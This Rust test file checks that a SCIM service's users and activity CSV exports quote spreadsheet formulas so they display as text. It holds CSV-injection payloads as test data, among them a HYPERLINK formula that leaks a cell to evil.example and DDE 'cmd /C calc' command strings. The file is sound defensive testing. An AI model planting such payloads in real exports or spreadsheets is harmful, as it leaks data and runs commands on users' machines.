//! CSV injection (issue 26 item 5): what an IdP wrote (a userName, an externalId, a
//! displayName, the request id it sent) reaches the users and activity exports as text
//! a spreadsheet shows, never as a formula it runs.

use reqwest::{Method, StatusCode};

use crate::backend_tests;
use crate::helpers::{Backend, TestApp, user_body};

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click me")"#;
const COMMAND: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const REQUEST_ID: &str = r#"=HYPERLINK("http://evil.example")"#;

/// The export's rows, parsed as a spreadsheet would read them.
async fn csv_rows(app: &TestApp, path: &str) -> Vec<csv::StringRecord> {
    let response = app.admin(Method::GET, path).send().await.expect("request");
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    let text = response.text().await.expect("csv");
    csv::Reader::from_reader(text.as_bytes())
        .records()
        .collect::<Result<_, _>>()
        .expect("valid CSV")
}

/// No cell starts with what makes a spreadsheet evaluate it.
fn no_formula(rows: &[csv::StringRecord]) {
    for row in rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {row:?}"
            );
        }
    }
}

async fn exported_cells_never_open_as_formulas(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let mut body = user_body(HYPERLINK);
    body["externalId"] = COMMAND.into();
    body["displayName"] = SUM.into();
    body["emails"] = serde_json::json!([]);
    let created = app
        .scim(Method::POST, "/Users")
        .header("x-request-id", REQUEST_ID)
        .json(&body)
        .send()
        .await
        .expect("request");
    assert_eq!(created.status(), StatusCode::CREATED);

    let users = csv_rows(&app, "/accounts/demo/users?format=csv").await;
    no_formula(&users);
    let row = users
        .iter()
        .find(|r| r.get(1) == Some(&format!("'{HYPERLINK}")))
        .unwrap_or_else(|| panic!("the user, its userName quoted: {users:?}"));
    assert_eq!(row.get(2), Some(format!("'{COMMAND}").as_str()));
    assert_eq!(row.get(3), Some(format!("'{SUM}").as_str()));

    app.activity_of("demo", "?method=POST", 1).await;
    let activity = csv_rows(&app, "/accounts/demo/activity?format=csv&method=POST").await;
    no_formula(&activity);
    assert_eq!(
        activity[0].get(11),
        Some(format!("'{REQUEST_ID}").as_str()),
        "{activity:?}"
    );
    assert_eq!(
        activity[0].get(3),
        Some("/scim/v2/Users"),
        "other cells are as they were"
    );
}

backend_tests!(exported_cells_never_open_as_formulas);
